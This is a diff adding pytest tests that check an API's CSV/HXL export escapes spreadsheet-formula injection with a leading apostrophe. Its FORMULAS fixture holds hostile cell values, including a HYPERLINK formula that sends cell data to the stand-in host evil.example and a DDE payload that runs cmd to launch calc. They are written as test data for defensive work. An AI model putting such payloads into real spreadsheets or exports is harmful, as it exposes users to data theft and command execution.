@@ -1,5 +1,6 @@
 """CSV with an HXL hashtag row (validated with libhxl) and GeoJSON, exactly."""
 
+import csv
 import io
 
 import hxl
@@ -136,3 +137,35 @@ def test_bad_cursor_answers_404_with_a_message(world, tokens):
     assert (response.status_code, response.json()) == (
         404, {"detail": "This page link is not valid. Start again from the first page."}
     )
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "@SUM(1+1)*cmd|' /C calc'!A0", "+243 thanks", "-1+2",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(world, tokens):
+    alerts = [alert(base=world.base, locality=world.sange, description=text) for text in FORMULAS]
+    mission(localities=[world.uvira], bases=[world.base], title="=1+1")
+    client = token_client(tokens.inside_key)
+    content = client.get("/api/v1/alerts/?format=csv&ordering=created_at").content
+    _hxl(content)  # still valid HXL
+    _header, tags, *rows = csv.reader(io.StringIO(content.decode(), newline=""))
+    cells = [dict(zip(tags, row, strict=True)) for row in rows]
+    assert [row["#description"] for row in cells] == [f"'{text}" for text in FORMULAS]
+    # the sender typed no number here; the coordinates are numbers, negative ones included
+    assert {(row["#geo+lat"], row["#geo+lon"]) for row in cells} == {("-3.08", "29.12")}
+    assert [row["#event+id"] for row in cells] == [str(a.uid) for a in alerts]
+    _dataset, rows = _hxl(client.get("/api/v1/missions/?format=csv").content)
+    assert [row[1] for row in rows] == ["'=1+1"]
+    # JSON and GeoJSON carry the text as it is
+    assert [row["description"] for row in client.get("/api/v1/alerts/?ordering=created_at").json()["results"]] == FORMULAS
+
+
+def test_every_cell_of_the_renderer_goes_through_the_one_function(monkeypatch):
+    from monusco.api import renderers
+
+    seen = []
+    monkeypatch.setattr(renderers, "spreadsheet_safe", lambda value: seen.append(value) or value)
+    view = type("View", (), {"csv_columns": [("a", "a", "#a"), ("b", "b", "#b"), ("c", "c", "#c")]})()
+    renderers.HXLCSVRenderer().render([{"a": "=x", "b": -3.5, "c": ["@y", "z"]}], renderer_context={"view": view})
+    assert seen == ["a", "b", "c", "#a", "#b", "#c", "=x", "@y|z"]
